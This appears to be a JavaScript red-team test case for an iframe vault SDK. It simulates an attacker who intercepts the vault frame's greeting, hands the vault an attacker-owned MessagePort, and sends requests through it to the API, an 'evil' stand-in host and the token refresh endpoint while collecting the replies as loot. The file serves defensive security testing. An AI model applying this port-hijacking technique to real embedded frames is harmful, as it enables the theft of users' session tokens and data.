// A real attacker: waits for the vault's frame to greet and hands it a port of their own before the SDK does.
export default {
  row: "frames",
  expected: [null, "loses"],
  // The application has no port.
  breaks: true,
  before: (redteam) => {
    addEventListener(
      "message",
      (event) => {
        if (event.origin !== redteam.vault) return;
        event.stopImmediatePropagation();
        const { port1, port2 } = new MessageChannel();
        redteam.answered = [];
        port1.onmessage = ({ data }) => {
          redteam.answered.push(data[0]);
          redteam.loot(data);
        };
        redteam.mine = port1;
        event.source.postMessage("strongroom:port", redteam.vault, [port2]);
      },
      true,
    );
  },
  after: async ({ api, evil, vault }, redteam) => {
    await redteam.until(() => redteam.mine);
    let id = 0;
    for (const url of [`${api}/v1/me`, `${evil}/v1/me`, `${vault}/auth/refresh`]) {
      redteam.mine?.postMessage([0, ++id, url, [], { method: "GET" }, true]);
    }
    await redteam.wait(1000);
    return redteam.answered;
  },
  // The vault serves the page: whoever speaks for it. It gives nothing more than that.
  reached: ({ brought }) => brought?.length > 0,
};
